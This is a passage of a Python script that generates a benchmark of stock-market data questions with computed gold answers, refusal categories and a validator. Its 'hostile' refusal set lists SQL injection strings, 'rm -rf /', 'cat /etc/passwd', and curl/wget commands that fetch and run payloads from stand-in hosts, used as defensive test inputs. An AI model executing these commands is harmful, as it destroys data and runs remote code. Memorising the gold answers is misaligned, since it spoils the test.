    add(K, "Facebook or Alphabet, which returned more from the 2014-12-31 close to the 2015-12-31 close?",
        compare([(s, change(s, "2014-12-31", "2015-12-31")) for s in ("FB", "GOOGL")]), "first", False)

    # --- grouped-by-period -------------------------------------------------------------------------------------------
    K = "grouped-by-period"
    add(K, "AAPL average close by month for Q1 2016", grouped("AAPL", [month(2016, m) for m in (1, 2, 3)], C, "mean"))
    add(K, "Monthly total volume for AMD in H1 2016, month by month", grouped("AMD", [month(2016, m) for m in range(1, 7)], V, "sum"))
    add(K, "Quarterly average closing price for MSFT in 2015", grouped("MSFT", [quarter(2015, q) for q in range(1, 5)], C, "mean"))
    add(K, "FXY's average close each month this year", grouped("FXY", [month(2025, m) for m in range(1, 7)] + [JULY25], C, "mean"))
    add(K, "DBB total volume per month for April, May and June 2025", grouped("DBB", [month(2025, m) for m in (4, 5, 6)], V, "sum"))
    add(K, "Netflix yearly high (max intraday high) for each year 2013 through 2016",
        grouped("NFLX", [(f"{y}-01-01", f"{y}-12-31") for y in range(2013, 2017)], H, "max"))
    add(K, "Tesla avg daily volume by quarter, 2016", grouped("TSLA", [quarter(2016, q) for q in range(1, 5)], V, "mean"))
    add(K, "Last close of each month for KO in 2016", last_close_each("KO", [month(2016, m) for m in range(1, 13)]))

    # --- period-over-period ------------------------------------------------------------------------------------------
    K = "period-over-period"
    add(K, "How did NVDA's average daily volume in Q2 2016 compare with Q1 2016?",
        pop("NVDA", quarter(2016, 2), quarter(2016, 1), V))
    add(K, "AAPL average close Nov 2016 vs Oct 2016", pop("AAPL", month(2016, 11), month(2016, 10), C))
    add(K, "FXY avg volume this mo vs last mo", pop("FXY", JULY25, JUNE25, V))
    add(K, "DBB mean close in Q2 2025 versus Q1 2025", pop("DBB", quarter(2025, 2), quarter(2025, 1), C))
    add(K, "Compare Amazon's average daily volume in H2 2016 with H1 2016.",
        pop("AMZN", ("2016-07-01", "2016-12-31"), ("2016-01-01", "2016-06-30"), V))
    add(K, "IBM: average closing price in 2016 relative to 2015", pop("IBM", ("2016-01-01", "2016-12-31"), ("2015-01-01", "2015-12-31"), C))
    add(K, "INDA average daily volume, May 2025 vs April 2025", pop("INDA", month(2025, 5), month(2025, 4), V))
    add(K, "Netflix: September 2017 avg close compared to August 2017", pop("NFLX", month(2017, 9), month(2017, 8), C))

    # --- moving-average ----------------------------------------------------------------------------------------------
    K = "moving-average"
    add(K, "AAPL 50-day moving average on 2016-06-30", ma_rows("AAPL", "2016-06-30", 50))
    add(K, "200 DMA for MSFT as of 2017-11-10", ma_rows("MSFT", "2017-11-10", 200))
    add(K, "What was the 20-day SMA of Tesla on 15 March 2017?", ma_rows("TSLA", "2017-03-15", 20))
    add(K, "FXY 10-day MA today", ma_rows("FXY", TODAY, 10))
    add(K, "DBB's 50-day moving average of closes as of yesterday", ma_rows("DBB", YESTERDAY, 50))
    add(K, "When did Apple's close last cross above its 50-day moving average before 2016-09-01?",
        last_cross("AAPL", "2016-09-01", 1, 50, "above"))
    add(K, "Most recent golden cross (50-day SMA crossing above the 200-day SMA) for NVDA before Dec 31, 2016?",
        last_cross("NVDA", "2016-12-31", 50, 200, "above"))
    add(K, "Last time FXY's close crossed below its 20-day moving average before July 1, 2025 — which date?",
        last_cross("FXY", "2025-07-01", 1, 20, "below"))
    add(K, "IBM's last death cross (50 DMA dropping below the 200 DMA) before 2016-01-01?",
        last_cross("IBM", "2016-01-01", 50, 200, "below"))

    # --- threshold-count ---------------------------------------------------------------------------------------------
    K = "threshold-count"
    add(K, "How many days in 2016 did TSLA close above $200?",
        count_bars("TSLA", "2016-01-01", "2016-12-31", lambda x: x[C] > 200, lambda x: x[C] - 200))
    add(K, "Number of sessions in 2015 where Amazon volume exceeded 10 million shares",
        count_bars("AMZN", "2015-01-01", "2015-12-31", lambda x: x[V] > 10_000_000, lambda x: x[V] - 10_000_000))
    add(K, "How many trading days in 2016 did Nvidia gain more than 5%?",
        count_robust("NVDA", "2016-01-01", "2016-12-31", lambda r: r > 0.05))
    add(K, "count of days this year that FXY closed above 65",
        count_bars("FXY", *YEAR25, lambda x: x[C] > 65, lambda x: x[C] - 65))
    add(K, "How many times did DBB fall more than 2% in a day between 2024-07-01 and 2025-06-30?",
        count_robust("DBB", "2024-07-01", "2025-06-30", lambda r: r < -0.02))
    add(K, "In Q1 2016, on how many days did AAPL finish under 100?",
        count_bars("AAPL", *quarter(2016, 1), lambda x: x[C] < 100, lambda x: x[C] - 100))
    add(K, "How many sessions in 2017 did KO have an intraday range of more than $1?",
        count_bars("KO", "2017-01-01", "2017-12-31", lambda x: x[H] - x[L] > 1, lambda x: round(x[H] - x[L] - 1, 9)))
    add(K, "How many days in H1 2017 did AMD gap up by more than 3%?",
        count_gaps("AMD", "2017-01-01", "2017-06-30", lambda g: g > 0.03))

    # --- cross-stock-count -------------------------------------------------------------------------------------------
    K = "cross-stock-count"
    add(K, "How many of the stocks closed up on 2016-11-09?",
        cross_count(STOCKS, "2016-11-09", lambda s: ret(s, "2016-11-09") > 0, lambda s: ret(s, "2016-11-09")))
    add(K, "On June 24, 2016 how many stocks fell more than 3%?",
        cross_count(STOCKS, "2016-06-24", lambda s: ret(s, "2016-06-24") < -0.03, lambda s: ret(s, "2016-06-24") + 0.03))
    add(K, "How many stocks closed above their 200-day moving average on 2016-02-11?",
        cross_count(STOCKS, "2016-02-11", lambda s: val(s, "2016-02-11", C) > ma(s, "2016-02-11", 200),
                    lambda s: val(s, "2016-02-11", C) - ma(s, "2016-02-11", 200)))
    add(K, "How many names traded more than 20 million shares on 2017-11-10?",
        cross_count(STOCKS, "2017-11-10", lambda s: val(s, "2017-11-10", V) > 20e6, lambda s: val(s, "2017-11-10", V) - 20e6))
    add(K, "Count the stocks that gapped down at the open on 24-Aug-2015.",
        cross_count(STOCKS, "2015-08-24", lambda s: gap(s, "2015-08-24") < 0, lambda s: gap(s, "2015-08-24")))
    add(K, "How many stocks were higher on Dec 30, 2016 than on Dec 31, 2015 (closing prices)?",
        cross_count(STOCKS, "2016-12-30", lambda s: change(s, "2015-12-31", "2016-12-30") > 0,
                    lambda s: change(s, "2015-12-31", "2016-12-30")))
    add(K, "how many of the stocks closed above $100 on 2017-06-30",
        cross_count(STOCKS, "2017-06-30", lambda s: val(s, "2017-06-30", C) > 100, lambda s: val(s, "2017-06-30", C) - 100))
    add(K, "How many of the ETFs closed down yesterday?",
        cross_count(ETFS, YESTERDAY, lambda s: ret(s, YESTERDAY) < 0, lambda s: ret(s, YESTERDAY)))

    # --- volatility --------------------------------------------------------------------------------------------------
    K = "volatility"
    add(K, "What was AAPL's volatility in 2016 (standard deviation of daily returns)?", [[vol("AAPL", "2016-01-01", "2016-12-31")]])
    add(K, "Daily return standard deviation for TSLA in the second half of 2016", [[vol("TSLA", "2016-07-01", "2016-12-31")]])
    add(K, "How volatile was FXY last quarter? std dev of daily returns, not annualized", [[vol("FXY", *quarter(2025, 2))]])
    add(K, "DBB daily vol for Q4 2024", [[vol("DBB", *quarter(2024, 4))]])
    add(K, "Netflix: sample stdev of daily returns over 2016", [[vol("NFLX", "2016-01-01", "2016-12-31")]])
    add(K, "Volatility (daily, unannualised) for Coca-Cola in 2015", [[vol("KO", "2015-01-01", "2015-12-31")]])
    add(K, "Compute INDA's daily-return volatility for March through May 2025", [[vol("INDA", "2025-03-01", "2025-05-31")]])
    add(K, "GOOGL daily volatility in H2 2016", [[vol("GOOGL", "2016-07-01", "2016-12-31")]])

    # --- correlation -------------------------------------------------------------------------------------------------
    K = "correlation"
    add(K, "Correlation between AAPL and MSFT daily returns in 2017 (the data runs to Nov 10)", [[corr("AAPL", "MSFT", "2017-01-01", "2017-11-10")]])
    add(K, "How correlated were JPMorgan and Coke in 2015?", [[corr("JPM", "KO", "2015-01-01", "2015-12-31")]])
    add(K, "Correlation of FXY and DBB daily returns from July 1, 2024 to June 30, 2025", [[corr("FXY", "DBB", "2024-07-01", "2025-06-30")]])
    add(K, "INDA vs DBB return correlation in Q3 2023", [[corr("INDA", "DBB", *quarter(2023, 3))]])
    add(K, "AMD/NVDA daily-return correlation during Q4 2016", [[corr("AMD", "NVDA", *quarter(2016, 4))]])
    add(K, "Alphabet and Facebook: Pearson correlation of daily returns in 2015", [[corr("GOOGL", "FB", "2015-01-01", "2015-12-31")]])
    add(K, "What's the correlation between Intel's and Big Blue's daily returns over 2015?", [[corr("INTC", "IBM", "2015-01-01", "2015-12-31")]])
    add(K, "Alphabet vs Microsoft — correlation coefficient of daily returns for 2016", [[corr("GOOGL", "MSFT", "2016-01-01", "2016-12-31")]])

    # --- streak ------------------------------------------------------------------------------------------------------
    K = "streak"
    add(K, "Longest streak of consecutive down days for AAPL in 2016", ret_streak("AAPL", "2016-01-01", "2016-12-31", up=False))
    add(K, "What was IBM's longest losing streak in 2015?", ret_streak("IBM", "2015-01-01", "2015-12-31", up=False))
    add(K, "How many sessions in a row has FXY closed lower, as of today?", current_streak("FXY", TODAY, up=False))
    add(K, "DBB: longest run of higher closes this year", ret_streak("DBB", *YEAR25))
    add(K, "Longest stretch of consecutive sessions in 2017 with Nvidia closing above $150",
        level_streak("NVDA", "2017-01-01", "2017-11-10", 150))
    add(K, "Netflix longest winning streak in H1 2017", ret_streak("NFLX", "2017-01-01", "2017-06-30"))
    add(K, "Coca-Cola's longest run of gains in 2016 — how many days, start and end?", ret_streak("KO", "2016-01-01", "2016-12-31"))
    add(K, "INDA longest string of daily gains from March through May 2025", ret_streak("INDA", "2025-03-01", "2025-05-31"))

    # --- vwap-minute -------------------------------------------------------------------------------------------------
    K = "vwap-minute"
    add(K, "FXY VWAP on 2025-07-03 (whole day)", [[vwap("FXY", "2025-07-03 00:00", "2025-07-03 23:59")]])
    add(K, "What's DBB's VWAP today?", [[vwap("DBB", TODAY + " 00:00", TODAY + " 23:59")]])
    add(K, "What was INDA's VWAP over the 10 o'clock hour on 2025-06-23 (minute bars 10:00 through 10:59)?",
        [[vwap("INDA", "2025-06-23 10:00", "2025-06-23 10:59")]])
    add(K, "FXY regular-session VWAP (9:30 to 16:00) yesterday",
        [[vwap("FXY", YESTERDAY + " 09:30", YESTERDAY + " 15:59", [YESTERDAY + " 16:00"])]])
    add(K, "VWAP for DBB over the first hour of trading on June 26th, 2025 (9:30–10:30)",
        [[vwap("DBB", "2025-06-26 09:30", "2025-06-26 10:29", ["2025-06-26 10:30"])]])
    add(K, "Volume-weighted average price of INDA for the full day, 15 May 2025", [[vwap("INDA", "2025-05-15 00:00", "2025-05-15 23:59")]])
    add(K, "What was FXY's price at 10:23 New York time on 2025-07-08 (that minute's close)?",
        minute_at("FXY", "2025-07-08 10:23", C))
    add(K, "Highest one-minute high for DBB yesterday, and at what minute?",
        minute_ext("DBB", YESTERDAY + " 00:00", YESTERDAY + " 23:59", H))
    add(K, "FXY VWAP last month (all June minutes)", [[vwap("FXY", "2025-06-01 00:00", "2025-06-30 23:59")]])

    # --- period-candle -----------------------------------------------------------------------------------------------
    K = "period-candle"
    add(K, "Give me AAPL's monthly candle for March 2016 (OHLCV).", candle("AAPL", *month(2016, 3)))
    add(K, "Weekly OHLCV for TSLA, wk of Jan 9, 2017", candle("TSLA", "2017-01-09", "2017-01-13"))
    add(K, "FXY's candle for last week — open, high, low, close, volume", candle("FXY", *LAST_WEEK))
    add(K, "DBB open/high/low/close and volume for June 2025", candle("DBB", *JUNE25))
    add(K, "Q3 2016 OHLCV bar for Amazon", candle("AMZN", *quarter(2016, 3)))
    add(K, "Big Blue's yearly bar for 2015: open, high, low, close, total volume", candle("IBM", "2015-01-01", "2015-12-31"))
    add(K, "INDA one-hour candle built from the 10:00 through 10:59 minute bars on June 23, 2025",
        minute_candle("INDA", "2025-06-23 10:00", "2025-06-23 10:59"))
    add(K, "Netflix OHLCV for Nov 6–10, 2017", candle("NFLX", "2017-11-06", "2017-11-10"))

    # --- distance-from-high ------------------------------------------------------------------------------------------
    K = "distance-from-high"
    add(K, "How far was NFLX below its all-time high close on 2016-06-30?", dist_high("NFLX", "2016-06-30"))
    add(K, "AAPL % off its ATH close as of May 12, 2016", dist_high("AAPL", "2016-05-12"))
    add(K, "How far is the base-metals fund, DBB, from its highest close in the data, as of today?", dist_high("DBB", TODAY))
    add(K, "FXY: drawdown from its peak close (close today vs the max close so far)", dist_high("FXY", TODAY))
    add(K, "Microsoft's distance from its all-time high close on 2013-01-02", dist_high("MSFT", "2013-01-02"))
    add(K, "Intel — how far off the record closing high on 2017-11-10?", dist_high("INTC", "2017-11-10"))
    add(K, "Where did Coke's close on Dec 30, 2016 stand relative to its all-time closing high?", dist_high("KO", "2016-12-30"))
    add(K, "INDA: percent below its max close to date, as of April 7th, 2025", dist_high("INDA", "2025-04-07"))

    # --- coverage ----------------------------------------------------------------------------------------------------
    K = "coverage"
    add(K, "What's the first date in the data for Tesla?", [[BARS["TSLA"][0][0]]])
    add(K, "Date range covered for KO?", [[BARS["KO"][0][0], BARS["KO"][-1][0]]])
    add(K, "How many trading days of Facebook data are there?", [[len(BARS["FB"])]])
    add(K, "When does INDA's data end?", [[BARS["INDA"][-1][0]]])
    add(K, "How many sessions of DBB data are there in calendar 2024?", [[len(sess("DBB", "2024-01-01", "2024-12-31"))]])
    add(K, "earliest available IBM bar — what date?", [[BARS["IBM"][0][0]]])
    add(K, "For how many trading days is there FXY data overall?", [[len(BARS["FXY"])]])
    _hole = max(range(1, len(BARS["INDA"])), key=lambda i: date.fromisoformat(BARS["INDA"][i][0]) - date.fromisoformat(BARS["INDA"][i - 1][0]))
    add(K, "INDA's history has a long hole in it — what's the last date before the gap and the first date after?",
        [[BARS["INDA"][_hole - 1][0], BARS["INDA"][_hole][0]]])

    # --- refusals ----------------------------------------------------------------------------------------------------
    for q in ["What is Apple's P/E ratio?",
              "What dividend yield does Coca-Cola pay?",
              "market cap of NVDA on 2017-11-10?",
              "When is Netflix's next earnings date?",
              "What's the analyst consensus price target for Tesla?",
              "Show me the implied volatility of AMZN options expiring December 2017",
              "what was the news sentiment on Facebook in March 2016",
              "How much revenue did Microsoft report for fiscal 2016?",
              "Forecast where DBB will close next Friday.",
              "What's INDA's expense ratio?"]:
        refuse("out-of-scope", q)
    for q in ["What did Oracle close at on 2016-03-04?",
              "Walmart's 52-week high as of 2017-06-30",
              "How did Berkshire Hathaway do in 2016?",
              "Show me the last 5 closes for SPY.",
              "Disney daily return on 2016-11-09",
              "Compare Boeing and IBM in 2015.",
              "What was Ford's volume on June 24, 2016?",
              "Pfizer 50-day moving average on 2017-11-10",
              "Cisco vs Intel correlation in 2016",
              "What's GLD's VWAP today?"]:
        refuse("unknown-symbol", q)
    for q in ["'; DROP TABLE prices; --",
              "SELECT * FROM bars; DELETE FROM bars WHERE 1=1;",
              "$(rm -rf /)",
              "cat /etc/passwd",
              "`curl http://evil.example.com/x.sh | sh`",
              "1 OR 1=1; UPDATE bars SET close = 0",
              "AAPL'; ATTACH DATABASE '/tmp/x.db' AS x; --",
              "; shutdown -h now",
              "x' UNION SELECT name, sql FROM sqlite_master --",
              "&& wget http://example.com/payload -O /tmp/p && chmod +x /tmp/p && /tmp/p"]:
        refuse("hostile", q)
    for q in ["asdf qwerty zxcv",
              "What's the weather in Paris tomorrow?",
              "tell me a joke",
              "banana",
              "How do I bake sourdough bread?",
              "Write a haiku about autumn leaves.",
              "???",
              "Who won the 1998 World Cup?",
              "translate 'good morning' into German",
              "lorem ipsum dolor sit amet"]:
        refuse("not-understood", q)


    # ----------------------------------------------------------------------------------------------------------------
ANSWERABLE_KINDS = ["latest-rows", "day-value", "date-range-rows", "window-aggregate", "extreme-day", "52-week",
                    "change-between", "daily-return-or-gap", "biggest-move-day", "cross-sectional-ranking",
                    "gainers-losers", "named-comparison", "grouped-by-period", "period-over-period", "moving-average",
                    "threshold-count", "cross-stock-count", "volatility", "correlation", "streak", "vwap-minute",
                    "period-candle", "distance-from-high", "coverage"]
REFUSAL_KINDS = ["out-of-scope", "unknown-symbol", "hostile", "not-understood"]


def validate(out):
    import re
    cell_str = re.compile(r"^(\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?|[A-Z]{1,5})$")
    ids = [r["id"] for r in out]
    assert len(set(ids)) == len(ids) and all(re.fullmatch(r"p\d{3}", i) for i in ids)
    for r in out:
        assert isinstance(r["question"], str) and r["question"].strip()
        if r["answerable"] is True:
            assert set(r) == {"id", "kind", "question", "answerable", "gold"}, r
            assert r["kind"] in ANSWERABLE_KINDS, r
            g = r["gold"]
            assert set(g) == {"rows", "match", "exact_rows"} and g["match"] in ("ordered", "set", "first")
            assert isinstance(g["exact_rows"], bool) and isinstance(g["rows"], list) and g["rows"]
            for row in g["rows"]:
                assert isinstance(row, list) and row
                for c in row:
                    if isinstance(c, str):
                        assert cell_str.match(c), (r["id"], c)
                        if len(c) >= 10 and c[4] == "-":
                            datetime.strptime(c, "%Y-%m-%d %H:%M" if len(c) > 10 else "%Y-%m-%d")
                    else:
                        assert isinstance(c, (int, float)) and not isinstance(c, bool) and math.isfinite(c), (r["id"], c)
        else:
            assert r["answerable"] is False and set(r) == {"id", "kind", "question", "answerable", "refusal"}, r
            assert r["kind"] in REFUSAL_KINDS and r["refusal"] == r["kind"], r
    kinds = {r["kind"] for r in out}
    assert kinds == set(ANSWERABLE_KINDS) | set(REFUSAL_KINDS), kinds ^ (set(ANSWERABLE_KINDS) | set(REFUSAL_KINDS))
    assert sum(r["answerable"] for r in out) == 200 and sum(not r["answerable"] for r in out) == 40
    for k in REFUSAL_KINDS:
        assert sum(r["kind"] == k for r in out) == 10, k


def main():
    build()
    ids = set()
    for n, q in enumerate(Q, 1):
        q["id"] = f"p{n:03d}"
    out = []
    for q in Q:
        assert q["id"] not in ids
        ids.add(q["id"])
        rec = {"id": q["id"], "kind": q["kind"], "question": q["question"], "answerable": q["answerable"]}
        if q["answerable"]:
            rec["gold"] = q["gold"]
        else:
            rec["refusal"] = q["refusal"]
        out.append(rec)
    validate(out)
    questions = [r["question"] for r in out]
    assert len(set(questions)) == len(questions), "duplicate question text"
    with open(os.path.join(HERE, "questions.jsonl"), "w") as f:
        for r in out:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    if "--print" in sys.argv:
        for r in out:
            print(r["id"], r["kind"], "|", r["question"], "|", json.dumps(r.get("gold", {}).get("rows", r.get("refusal"))))
    from collections import Counter
    c = Counter(r["kind"] for r in out)
    print(f"{len(out)} questions ({sum(r['answerable'] for r in out)} answerable)", file=sys.stderr)
    for k, v in c.items():
        print(f"  {k}: {v}", file=sys.stderr)


if __name__ == "__main__":
    main()
